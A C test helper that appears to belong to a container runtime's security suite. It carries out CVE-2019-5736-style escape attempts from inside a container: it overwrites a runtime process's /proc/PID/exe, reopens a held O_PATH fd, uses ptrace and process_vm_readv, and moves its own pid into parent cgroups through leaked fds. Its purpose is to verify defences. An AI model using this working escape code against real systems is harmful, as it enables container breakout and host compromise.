/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Attack program for tests/security/escape.bats (CVE-2019-5736 and CVE-2016-8649 classes).
 * Runs as root inside a privileged container and watches the container's /proc for any process
 * whose executable is nook's (the attach's command process before it execs, or a process that
 * re-executed nook's image through a `#!/proc/self/exe` script). For each one it:
 *   - stops it at once (SIGSTOP), so the race is always won: the worst case for the runtime;
 *   - lists its fds, cwd and root (what a process of the container may reach through it);
 *   - tries to overwrite its executable: open(/proc/PID/exe, O_WRONLY|O_TRUNC), O_WRONLY and
 *     O_RDWR plus a pwrite of the byte already there (non-destructive when it works);
 *   - keeps an O_PATH fd of /proc/PID/exe and, once the process is gone (the trick of the
 *     public runc exploit, which avoids ETXTBSY), reopens /proc/self/fd/N for writing;
 *   - tries PTRACE_ATTACH and process_vm_readv.
 * Every attempt is printed, one line each; the last line is a summary the test parses:
 *   SUMMARY nook_seen=N write_ok=N ptrace_ok=N vmread_ok=N hostfd=N
 * hostfd counts fds of such a process that are not 0-2 (anything else is something of the
 * host's the attach brought in).
 *
 * usage: exewatch SECONDS [PATTERN]
 *   PATTERN (default "nook") is matched against the /proc/PID/exe link; the tests use another
 *   one on a binary of the container's own as a control, to show that the attack works where
 *   nothing stops it.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAXP 256

static struct {
	pid_t pid;
	int opath;
} held[MAXP];
static int nheld;
static int nook_seen, write_ok, ptrace_ok, vmread_ok, hostfd, escape_ok;
/* A process is inspected again after it execs something else: keyed by pid and command line. */
static struct {
	pid_t pid;
	unsigned long cmd;
} seen[4096];
static int nseen;

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static const char *err(int ok)
{
	return ok ? "OK" : strerrorname_np(errno) ? strerrorname_np(errno) : "E?";
}

/* Writes the byte already at offset 0 back: proves writability without changing anything. */
static int try_write(int fd)
{
	unsigned char b;
	if (pread(fd, &b, 1, 0) != 1)
		b = 0x7f; /* an O_WRONLY fd: ELF magic */
	return pwrite(fd, &b, 1, 0) == 1;
}

static void attack_open(const char *path, const char *tag)
{
	int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
	printf("  %s open(O_WRONLY|O_TRUNC)=%s\n", tag, err(fd >= 0));
	if (fd >= 0) {
		write_ok++;
		close(fd);
	}
	fd = open(path, O_WRONLY | O_CLOEXEC);
	int ok = fd >= 0 && try_write(fd);
	printf("  %s open(O_WRONLY)+pwrite=%s\n", tag, err(ok));
	if (ok)
		write_ok++;
	if (fd >= 0)
		close(fd);
	fd = open(path, O_RDWR | O_CLOEXEC);
	ok = fd >= 0 && try_write(fd);
	printf("  %s open(O_RDWR)+pwrite=%s\n", tag, err(ok));
	if (ok)
		write_ok++;
	if (fd >= 0)
		close(fd);
}

/*
 * What a leaked fd gives: a directory fd is a way out of the rootfs ("..") and, for a cgroup
 * directory of the host's hierarchy, out of the container's cgroup: write our own pid into the
 * cgroup.procs of its parents (the root of the host's hierarchy last).
 */
static void use_fd(const char *fp)
{
	int d = open(fp, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (d < 0)
		return;
	char l[4096], pp[64];
	const char *ups[] = {"../cgroup.procs", "../../cgroup.procs", "../../../cgroup.procs"};
	for (size_t i = 0; i < 3; i++) {
		int c = openat(d, ups[i], O_WRONLY | O_CLOEXEC);
		if (c < 0)
			continue;
		char pid[32];
		int n = snprintf(pid, sizeof(pid), "%d\n", getpid());
		int ok = write(c, pid, (size_t)n) == n;
		printf("    escape via fd: write own pid to %s: %s\n", ups[i], err(ok));
		if (ok)
			escape_ok++;
		close(c);
	}
	int up = openat(d, "../../..", O_PATH | O_CLOEXEC);
	if (up >= 0) {
		snprintf(pp, sizeof(pp), "/proc/self/fd/%d", up);
		ssize_t n = readlink(pp, l, sizeof(l) - 1);
		l[n > 0 ? n : 0] = '\0';
		printf("    ../../.. of it: %s\n", l);
		close(up);
	}
	close(d);
}

static void status_caps(pid_t pid)
{
	char p[64], line[256];
	snprintf(p, sizeof(p), "/proc/%d/status", pid);
	FILE *f = fopen(p, "re");
	if (!f)
		return;
	while (fgets(line, sizeof(line), f))
		if (!strncmp(line, "Cap", 3))
			printf("  %s", line);
	fclose(f);
}

static void inspect(pid_t pid, const char *exe, const char *cmd)
{
	char p[128], l[4096];
	nook_seen++;
	printf("pid %d exe %s cmdline %s\n", pid, exe, cmd);
	status_caps(pid);
	snprintf(p, sizeof(p), "/proc/%d/fd", pid);
	DIR *d = opendir(p);
	if (d) {
		struct dirent *e;
		while ((e = readdir(d))) {
			if (e->d_name[0] == '.')
				continue;
			char fp[300];
			snprintf(fp, sizeof(fp), "/proc/%d/fd/%s", pid, e->d_name);
			ssize_t n = readlink(fp, l, sizeof(l) - 1);
			l[n > 0 ? n : 0] = '\0';
			printf("  fd %s -> %s\n", e->d_name, l);
			if (atoi(e->d_name) > 2) {
				hostfd++;
				use_fd(fp);
			}
		}
		closedir(d);
	} else {
		printf("  fd list: %s\n", err(0));
	}
	for (int i = 0; i < 2; i++) {
		snprintf(p, sizeof(p), "/proc/%d/%s", pid, i ? "root" : "cwd");
		ssize_t n = readlink(p, l, sizeof(l) - 1);
		l[n > 0 ? n : 0] = '\0';
		printf("  %s -> %s\n", i ? "root" : "cwd", n > 0 ? l : err(0));
	}
	snprintf(p, sizeof(p), "/proc/%d/exe", pid);
	attack_open(p, "exe");
	int op = open(p, O_PATH | O_CLOEXEC);
	if (op >= 0 && nheld < MAXP) {
		held[nheld].pid = pid;
		held[nheld++].opath = op;
	}
	/* ptrace: attach, then process_vm_readv of its stack pointer's page is not needed: any
	 * readable address will do, and the auxv gives one (AT_PHDR). */
	long r = ptrace(PTRACE_SEIZE, pid, 0, 0);
	printf("  ptrace(PTRACE_SEIZE)=%s\n", err(r == 0));
	if (r == 0) {
		ptrace_ok++;
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	unsigned long phdr = 0;
	snprintf(p, sizeof(p), "/proc/%d/auxv", pid);
	int afd = open(p, O_RDONLY | O_CLOEXEC);
	if (afd >= 0) {
		unsigned long av[2];
		while (read(afd, av, sizeof(av)) == sizeof(av))
			if (av[0] == 3 /* AT_PHDR */)
				phdr = av[1];
		close(afd);
	}
	char buf[16];
	struct iovec li = {buf, sizeof(buf)}, ri = {(void *)phdr, sizeof(buf)};
	ssize_t n = phdr ? process_vm_readv(pid, &li, 1, &ri, 1, 0) : -1;
	printf("  process_vm_readv=%s\n", phdr ? err(n > 0) : "no-auxv");
	if (n > 0)
		vmread_ok++;
	fflush(stdout);
}

static void cmdline(pid_t pid, char *buf, size_t size)
{
	char p[64];
	snprintf(p, sizeof(p), "/proc/%d/cmdline", pid);
	buf[0] = '\0';
	int fd = open(p, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	ssize_t n = read(fd, buf, size - 1);
	close(fd);
	buf[n > 0 ? n : 0] = '\0';
	for (ssize_t i = 0; i < n - 1; i++)
		if (buf[i] == '\0')
			buf[i] = ' ';
}

static int was_seen(pid_t pid, const char *cmd)
{
	unsigned long h = 5381;
	for (const char *c = cmd; *c; c++)
		h = h * 33 + (unsigned char)*c;
	for (int i = 0; i < nseen; i++)
		if (seen[i].pid == pid && seen[i].cmd == h)
			return 1;
	if (nseen < (int)(sizeof(seen) / sizeof(seen[0]))) {
		seen[nseen].pid = pid;
		seen[nseen++].cmd = h;
	}
	return 0;
}

int main(int argc, char **argv)
{
	double end = now() + (argc > 1 ? atof(argv[1]) : 10);
	pid_t self = getpid();
	const char *pattern = argc > 2 ? argv[2] : "nook";
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("exewatch pid %d\n", self);
	while (now() < end) {
		DIR *d = opendir("/proc");
		if (!d)
			return 2;
		struct dirent *e;
		while ((e = readdir(d))) {
			pid_t pid = atoi(e->d_name);
			if (pid <= 1 || pid == self)
				continue;
			char p[64], exe[4096];
			snprintf(p, sizeof(p), "/proc/%d/exe", pid);
			ssize_t n = readlink(p, exe, sizeof(exe) - 1);
			if (n <= 0)
				continue;
			exe[n] = '\0';
			if (!strstr(exe, pattern))
				continue;
			/* Stop it first, look afterwards: it is ours for as long as we want. */
			kill(pid, SIGSTOP);
			char cmd[256];
			cmdline(pid, cmd, sizeof(cmd));
			if (was_seen(pid, cmd)) {
				kill(pid, SIGCONT);
				continue;
			}
			inspect(pid, exe, cmd);
			kill(pid, SIGCONT);
		}
		closedir(d);
	}
	/* The runc exploit's second step: the processes are gone (or at least exec'd away): reopen
	 * the O_PATH fds for writing, which a plain open refused with ETXTBSY while they ran. */
	for (int i = 0; i < nheld; i++) {
		char p[64];
		snprintf(p, sizeof(p), "/proc/self/fd/%d", held[i].opath);
		char tag[64];
		snprintf(tag, sizeof(tag), "reopen(pid %d)", held[i].pid);
		attack_open(p, tag);
	}
	printf(
	    "SUMMARY nook_seen=%d write_ok=%d ptrace_ok=%d vmread_ok=%d hostfd=%d escape_ok=%d\n",
	    nook_seen, write_ok, ptrace_ok, vmread_ok, hostfd, escape_ok);
	return 0;
}
